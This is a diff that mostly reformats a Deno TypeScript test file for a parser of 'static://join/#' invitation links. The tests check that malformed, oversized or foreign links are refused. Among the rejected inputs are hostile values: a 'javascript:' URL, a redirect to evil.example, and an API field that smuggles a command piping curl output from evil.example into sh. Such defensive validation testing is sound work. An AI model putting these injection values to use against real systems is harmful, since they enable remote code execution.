@@ -31,7 +31,10 @@ const der = Uint8Array.of(0x30, 0x82, 0x07, 0xfc, ...new Uint8Array(2044).fill(1
 const certificate: JoinLink = { ...small, authority: { kind: "certificate", der } };
 const shortCertificate: JoinLink = {
   ...small,
-  authority: { kind: "certificate", der: Uint8Array.of(0x30, 0x81, 0xc8, ...new Uint8Array(200).fill(1)) },
+  authority: {
+    kind: "certificate",
+    der: Uint8Array.of(0x30, 0x81, 0xc8, ...new Uint8Array(200).fill(1)),
+  },
 };
 
 /** Frozen: links like these are in people's mail. */
@@ -48,12 +51,16 @@ function refusal(text: string): WireError {
 
 /** A link with other content and a checksum that fits. */
 function sealed(content: Uint8Array, version = 1): string {
-  const bytes = concatBytes(Uint8Array.of(version, content.length >> 8, content.length & 0xff), content);
+  const bytes = concatBytes(
+    Uint8Array.of(version, content.length >> 8, content.length & 0xff),
+    content,
+  );
   return `static://join/#${encodeBase64url(concatBytes(bytes, sha256(bytes).subarray(0, 4)))}`;
 }
 
 function contentOf(link: JoinLink): CborMap {
-  const bytes = decodeBase64url(formatJoinLink(link).slice("static://join/#".length)) ?? new Uint8Array(0);
+  const bytes = decodeBase64url(formatJoinLink(link).slice("static://join/#".length)) ??
+    new Uint8Array(0);
   const value = decodeCbor(bytes.subarray(3, -4));
   assert(value instanceof Map);
   return value;
@@ -103,11 +110,28 @@ Deno.test("parseJoinLink() tells a link that was cut short from one that was cha
 Deno.test("parseJoinLink() refuses what surrounds a link, other characters, and other addresses", () => {
   const text = formatJoinLink(small);
   for (
-    const each of [` ${text}`, `${text} `, `${text}A`, `${text}=`, `${text}\n`, text.replace("_", "/"), `<${text}>`]
+    const each of [
+      ` ${text}`,
+      `${text} `,
+      `${text}A`,
+      `${text}=`,
+      `${text}\n`,
+      text.replace("_", "/"),
+      `<${text}>`,
+    ]
   ) {
     assertEquals(refusal(each).code, "link_invalid");
   }
-  for (const other of ["static://join", "static://other/", "http://static/join/", "javascript:", "", "inv_"]) {
+  for (
+    const other of [
+      "static://join",
+      "static://other/",
+      "http://static/join/",
+      "javascript:",
+      "",
+      "inv_",
+    ]
+  ) {
     assertEquals(refusal(text.replace("static://join/", other)).code, "link_invalid");
   }
   const elsewhere = text.replace("static://join/", "https://evil.example/console/join");
@@ -117,9 +141,16 @@ Deno.test("parseJoinLink() refuses what surrounds a link, other characters, and 
 Deno.test("parseJoinLink() refuses long input before it decodes anything, and a length that no link has", () => {
   assertEquals(refusal(`static://join/#${"A".repeat(50_000_000)}`).code, "link_invalid");
   assertEquals(refusal("static://join/#Af__").code, "link_invalid");
-  assertThrows(() => formatJoinLink({ ...certificate, relayUrls: Array(9).fill("quic://relay.example") }), WireError);
+  assertThrows(
+    () => formatJoinLink({ ...certificate, relayUrls: Array(9).fill("quic://relay.example") }),
+    WireError,
+  );
   const long = "quic://" + "r".repeat(240);
-  assertThrows(() => formatJoinLink({ ...certificate, pass, relayUrls: Array(8).fill(long) }), WireError, "room");
+  assertThrows(
+    () => formatJoinLink({ ...certificate, pass, relayUrls: Array(8).fill(long) }),
+    WireError,
+    "room",
+  );
 });
 
 Deno.test("a link of another version says what to update, if its checksum is right", () => {
@@ -142,13 +173,19 @@ const oddities: readonly (readonly [string, (fields: CborMap) => void])[] = [
   ["an API with a credential", (fields) => fields.set(5, "https://a:b@api.example")],
   ["an API written otherwise", (fields) => fields.set(5, "https://api.example/")],
   ["an API that is a script", (fields) => fields.set(5, "javascript:alert(1)")],
-  ["an API whose path is a command", (fields) => fields.set(5, "https://api.example/;curl$IFS'evil.example'|sh")],
+  [
+    "an API whose path is a command",
+    (fields) => fields.set(5, "https://api.example/;curl$IFS'evil.example'|sh"),
+  ],
   ["an API whose path has an &", (fields) => fields.set(5, "https://api.example/a&b")],
   ["a long API", (fields) => fields.set(5, `https://${"a".repeat(300)}`)],
   ["a relay that is none", (fields) => fields.set(6, ["https://relay.example/path"])],
   ["several relays in one", (fields) => fields.set(6, ["quic://a,quic://b"])],
   ["relays that are no list", (fields) => fields.set(6, "quic://a")],
-  ["a hash and a certificate", (fields) => fields.set(7, new Uint8Array(32)).set(8, new Uint8Array(400))],
+  [
+    "a hash and a certificate",
+    (fields) => fields.set(7, new Uint8Array(32)).set(8, new Uint8Array(400)),
+  ],
   ["a short hash", (fields) => fields.set(7, new Uint8Array(31))],
   ["a certificate that is a hash", (fields) => fields.set(8, new Uint8Array(32))],
   ["a long certificate", (fields) => fields.set(8, new Uint8Array(2049))],
@@ -180,7 +217,14 @@ function sorted(fields: CborMap): CborMap {
 
 Deno.test("parseJoinLink() refuses content that is no map, not CBOR, or has something behind it", () => {
   const content = encodeCbor(contentOf(small));
-  for (const bad of [encodeCbor([1, 2]), Uint8Array.of(0xff), new Uint8Array(0), Uint8Array.of(...content, 0)]) {
+  for (
+    const bad of [
+      encodeCbor([1, 2]),
+      Uint8Array.of(0xff),
+      new Uint8Array(0),
+      Uint8Array.of(...content, 0),
+    ]
+  ) {
     assertEquals(refusal(sealed(bad)).code, "link_invalid");
   }
 });
@@ -188,7 +232,12 @@ Deno.test("parseJoinLink() refuses content that is no map, not CBOR, or has some
 Deno.test("no error shows anything of a link", () => {
   const text = formatJoinLink(whole);
   const payload = text.slice("static://join/#".length);
-  const broken = [text.slice(0, -3), `${text}x y`, text.replace("static:", "https:"), `${text.slice(0, -2)}AA`];
+  const broken = [
+    text.slice(0, -3),
+    `${text}x y`,
+    text.replace("static:", "https:"),
+    `${text.slice(0, -2)}AA`,
+  ];
   for (const each of broken) {
     const { message, cause } = refusal(each);
     for (let at = 0; at + 8 < payload.length; at += 8) {
